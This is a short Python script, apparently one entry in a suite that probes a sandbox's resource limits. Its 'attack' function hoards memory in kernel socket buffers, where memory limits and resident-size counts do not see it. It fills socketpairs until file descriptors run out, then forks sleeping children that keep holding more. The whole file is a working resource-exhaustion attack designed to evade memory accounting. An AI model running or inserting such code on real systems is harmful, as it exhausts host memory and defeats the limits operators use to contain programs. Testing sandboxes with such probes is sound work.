"""Take memory without end in the buffers of sockets, which neither limits nor resident sizes count, by children too."""

import os
import signal
import socket

from attempt import attempt
from bot import play, setting

pairs = []


def fill(megabytes: int) -> int:
    """Fill the buffers of as many sockets as may be open; returns the megabytes that they hold."""
    held = 0
    try:
        while held < megabytes << 20:
            pair = socket.socketpair()
            pairs.append(pair)
            for end in pair:
                end.setblocking(False)
                held += _filled(end)
    except OSError:
        return held >> 20
    return held >> 20


def _filled(end: socket.socket) -> int:
    held = 0
    try:
        while True:
            held += end.send(bytes(1 << 16))
    except BlockingIOError:
        return held


def attack() -> None:
    wanted = setting("megabytes")
    held = fill(wanted)
    while held < wanted:
        pairs.pop()  # A pipe needs two of the descriptors.
        told, tells = os.pipe()
        if os.fork() == 0:
            pairs.clear()
            os.write(tells, fill(wanted - held).to_bytes(4))
            while True:
                signal.pause()
        os.close(tells)
        held += int.from_bytes(os.read(told, 4))


play(lambda: attempt("hold memory in sockets", attack))
